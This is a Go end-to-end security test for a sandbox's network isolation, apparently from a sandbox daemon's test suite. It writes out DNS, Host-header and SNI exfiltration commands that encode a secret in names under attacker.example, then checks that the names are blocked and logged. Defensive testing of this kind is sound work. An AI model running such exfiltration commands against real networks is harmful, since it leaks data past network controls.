package e2e

import (
	"strings"
	"testing"

	"github.com/sbxhq/sbx/api"
)

// Hostile-guest and hostile-client tests of the network, the daemon's
// network identity, events and error bodies (docs/security.md, "DNS,
// events, network locks, error bodies and keys"). Names a test resolves go
// to the test DNS upstream on loopback (upstream), which logs every name
// that reaches it; packets go only to test namespaces.

// seenByUpstream reports whether any name that reached the test DNS
// upstream contains marker.
func seenByUpstream(marker string) bool {
	for _, n := range upstream.Seen() {
		if strings.Contains(n, marker) {
			return true
		}
	}
	return false
}

// TestHostileDNSExfiltration: root in a sandbox whose allow list holds
// only CIDRs encodes data in names (exfil-<hex>.attacker.example) and asks
// for them by every route it has: the resolver, TCP DNS, and the Host and
// SNI of connections to an allowed address. None may reach the upstream
// resolver; the refusals are in the network log. A sandbox with the
// internet open still resolves any name (the control: the resolver logs).
func TestHostileDNSExfiltration(t *testing.T) {
	ctx := ctxT(t)
	out := startOutside(t)
	marker := "x" + randomHex(6)
	sb := newSandbox(t, api.CreateSandboxRequest{Image: "default", Network: &api.NetworkRules{
		Internet: true, Allow: []string{out.Addr.String()},
	}})
	secret := "exfil-" + marker + "-736563726574.attacker.example"
	for _, cmd := range []string{
		"getent hosts " + secret,
		"getent ahosts tcp-" + secret,
		// The allowed address by name: the proxy is not in the path
		// (no domain in the rules), the firewall decides by address.
		"curl -sS -m 5 -H 'Host: http-" + secret + "' http://" + out.Addr.String() + "/",
		"curl -sS -m 5 -k --resolve tls-" + secret + ":443:" + out.Addr.String() + " https://tls-" + secret + "/",
	} {
		sh(t, sb, cmd)
	}
	// The address itself is reachable: the rule allows it.
	if got := mustSh(t, sb, "curl -sS -m 5 http://"+out.Addr.String()+"/"); !strings.Contains(got, "hello") {
		t.Fatalf("the allowed address: %q", got)
	}
	if res := sh(t, sb, "getent hosts "+secret); res.ExitCode == 0 {
		t.Errorf("%s resolved: %q", secret, res.Stdout)
	}
	// With a name in the list as well, only that name leaves.
	if _, err := sb.Network().Set(ctx, api.NetworkRules{Internet: true, Allow: []string{"outside.test", out.Addr.String()}}); err != nil {
		t.Fatal(err)
	}
	if got := mustSh(t, sb, "curl -sS -m 5 http://outside.test/"); got != "hello from outside.test" {
		t.Fatalf("allowed name: %q", got)
	}
	sh(t, sb, "getent hosts mixed-"+secret)
	sh(t, sb, "curl -sS -m 5 -H 'Host: proxy-"+secret+"' http://"+out.Addr.String()+"/")
	sh(t, sb, "curl -sS -m 5 -k --resolve sni-"+secret+":443:"+out.Addr.String()+" https://sni-"+secret+"/")
	if seenByUpstream(marker) {
		var leaked []string
		for _, n := range upstream.Seen() {
			if strings.Contains(n, marker) {
				leaked = append(leaked, n)
			}
		}
		t.Fatalf("names reached the upstream resolver: %v", leaked)
	}
	l, err := sb.Network().Log(ctx)
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, e := range l.Refused {
		if e.Kind == "dns" && strings.Contains(e.Destination, marker) {
			found = true
		}
	}
	if !found {
		t.Errorf("no DNS refusal of the exfil names in the network log: %+v", l.Refused)
	}

	// Control: the internet open, names are forwarded as before, and the
	// upstream's log shows them.
	open := newSandbox(t, api.CreateSandboxRequest{Image: "default"})
	sh(t, open, "getent hosts open-"+marker+".attacker.example")
	if !seenByUpstream("open-" + marker) {
		t.Fatal("the open sandbox's query did not reach the upstream (is the resolver logging?)")
	}
}
